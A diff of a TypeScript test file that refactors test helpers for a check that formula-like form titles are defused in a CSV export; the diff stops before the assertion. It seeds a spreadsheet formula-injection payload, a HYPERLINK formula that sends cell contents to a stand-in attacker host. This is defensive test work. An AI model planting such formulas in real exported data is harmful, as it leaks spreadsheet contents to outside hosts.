@@ -1,16 +1,14 @@
 import { describe, expect, it } from 'vitest';
 import { createApp } from '../../app.js';
 import { prisma } from '../../db.js';
-import { makeWorkshop, signedInAgent } from '../../test/helpers.js';
-import { insertFormFromTemplate } from '../questionnaires/questionnaires.service.js';
-import { getTemplate } from '../questionnaires/templates.js';
+import { makeForm, makeWorkshop, signedInAgent } from '../../test/builders/index.js';
 
 const app = createApp();
 
 describe('the evaluation CSV summary and spreadsheet formulas', () => {
   it('when a form title, question text or option label starts like a formula, then the CSV cell is defused with an apostrophe', async () => {
     const w = await makeWorkshop({ trainees: 0 });
-    const formId = await insertFormFromTemplate(prisma, w.workshopId, getTemplate('post-training')!, { sessionId: null, status: 'open' });
+    const { id: formId } = await makeForm({ workshop: w.workshop, template: 'post-training' });
     await prisma.form.update({
       where: { id: formId },
       data: { titleId: '=HYPERLINK("http://evil.example/?x="&A1,"klik")', titleEn: '=1+1' },
